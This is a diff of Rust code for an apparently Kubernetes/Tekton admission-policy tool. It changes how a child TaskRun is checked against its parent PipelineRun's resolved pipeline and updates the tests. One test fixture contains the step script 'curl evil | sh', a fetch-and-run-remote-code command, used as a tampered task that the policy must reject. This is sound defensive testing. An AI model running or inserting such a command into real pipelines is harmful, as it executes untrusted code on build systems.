@@ -3,13 +3,15 @@
 //! for the parent (tektoncd/pipeline `pkg/reconciler/pipelinerun/pipelinerun.go` `createTaskRun`,
 //! `createChildPipelineRun`; `resources/pipelinerunresolution.go` `resolveTask`): the pipeline
 //! task's `taskRef` as written, or its embedded `taskSpec`, with the run's parameters, context and
-//! earlier results substituted (`resources/apply.go` — after the resolved pipeline was stored in
-//! the parent's `status.pipelineSpec`, so the stored one still shows `$(…)`), and the service
-//! account `GetTaskRunSpec` gives that task. A child is covered when its task is the pipeline
-//! task of that name in the parent's resolved pipeline — equal but for what substitution fills
-//! in — and it runs as an account the parent was judged to run as; it is then judged as the
-//! parent was. Anything else (a pipeline changed since, a task that is not in it) is judged on its
-//! own. No I/O: the parent is the one the cluster stores (`cluster::owners`).
+//! earlier results substituted (`resources/apply.go`; the copy stored in the parent's
+//! `status.pipelineSpec` has the parameters filled in but still shows results as `$(…)`, and the
+//! Pipeline itself — what the parent's first children are built from before that status is
+//! written — shows every `$(…)`), and the service account `GetTaskRunSpec` gives that task. A
+//! child is covered when its task is the pipeline task of that name in the parent's resolved
+//! pipeline — equal but for what substitution fills in — and it runs as an account the parent was
+//! judged to run as; it is then judged as the parent was. Anything else (a pipeline changed
+//! since, a task that is not in it) is judged on its own. No I/O: the parent and its pipeline are
+//! read by `cluster::owners`.
 
 use super::pipeline_run::{self, Runs};
 use crate::policy::Kind;
@@ -19,16 +21,16 @@ use serde_json::{Map, Value};
 /// carry: its own metadata and the custom-task fields.
 const EMBEDDED_ONLY: [&str; 4] = ["metadata", "apiVersion", "kind", "spec"];
 
-/// What the parent covered, to judge the child by, or why the child is not covered.
-pub fn covered(kind: Kind, child: &Value, parent: &Value) -> Result<Runs, String> {
+/// What the parent covered, to judge the child by, or why the child is not covered. `pipeline`
+/// is the one the parent runs, as Tekton resolved it for its children (`cluster::owners`).
+pub fn covered(kind: Kind, child: &Value, parent: &Value, pipeline: Option<&Value>) -> Result<Runs, String> {
     let task_name = child
         .pointer("/metadata/labels/tekton.dev~1pipelineTask")
         .and_then(Value::as_str)
         .ok_or("it names no pipeline task (label tekton.dev/pipelineTask)")?;
-    let pipeline = parent
-        .pointer("/status/pipelineSpec")
-        .or_else(|| parent.pointer("/spec/pipelineSpec"))
-        .ok_or("its PipelineRun shows no resolved pipeline (status.pipelineSpec)")?;
+    let pipeline = pipeline.ok_or(
+        "its PipelineRun shows no resolved pipeline yet (status.pipelineSpec) and scimgate cannot read the one it names (a pipelineRef through a resolver or bundle, or a Pipeline that is gone)",
+    )?;
     let task = ["tasks", "finally"]
         .iter()
         .filter_map(|k| pipeline.get(*k).and_then(Value::as_array))
@@ -183,30 +185,51 @@ mod tests {
             json!({"serviceAccountName": "runner",
             "taskSpec": {"steps": [{"image": "go:1.23", "script": "go build"}]}}),
         );
-        let runs = covered(Kind::TaskRun, &embedded, &parent).expect("covered");
+        let runs = covered(
+            Kind::TaskRun,
+            &embedded,
+            &parent,
+            parent.pointer("/status/pipelineSpec"),
+        )
+        .expect("covered");
         assert_eq!(runs.templates, vec!["lib-deploy"]);
         let referenced = child(
             "publish",
             json!({"serviceAccountName": "runner", "taskRef": {"name": "publish-task"}}),
         );
-        assert!(covered(Kind::TaskRun, &referenced, &parent).is_ok());
+        assert!(covered(
+            Kind::TaskRun,
+            &referenced,
+            &parent,
+            parent.pointer("/status/pipelineSpec")
+        )
+        .is_ok());
         let changed = child(
             "compile",
             json!({"serviceAccountName": "runner",
             "taskSpec": {"steps": [{"image": "go:1.23", "script": "curl evil | sh"}]}}),
         );
-        assert!(covered(Kind::TaskRun, &changed, &parent).is_err());
+        assert!(covered(Kind::TaskRun, &changed, &parent, parent.pointer("/status/pipelineSpec")).is_err());
         let swapped = child(
             "publish",
             json!({"serviceAccountName": "runner", "taskRef": {"name": "other"}}),
         );
-        assert!(covered(Kind::TaskRun, &swapped, &parent).is_err());
+        assert!(covered(Kind::TaskRun, &swapped, &parent, parent.pointer("/status/pipelineSpec")).is_err());
         let admin = child(
             "publish",
             json!({"serviceAccountName": "admin", "taskRef": {"name": "publish-task"}}),
         );
-        assert!(covered(Kind::TaskRun, &admin, &parent).is_err_and(|e| e.contains("'admin'")));
+        assert!(
+            covered(Kind::TaskRun, &admin, &parent, parent.pointer("/status/pipelineSpec"))
+                .is_err_and(|e| e.contains("'admin'"))
+        );
         let stranger = child("nope", json!({"taskRef": {"name": "publish-task"}}));
-        assert!(covered(Kind::TaskRun, &stranger, &parent).is_err());
+        assert!(covered(
+            Kind::TaskRun,
+            &stranger,
+            &parent,
+            parent.pointer("/status/pipelineSpec")
+        )
+        .is_err());
     }
 }
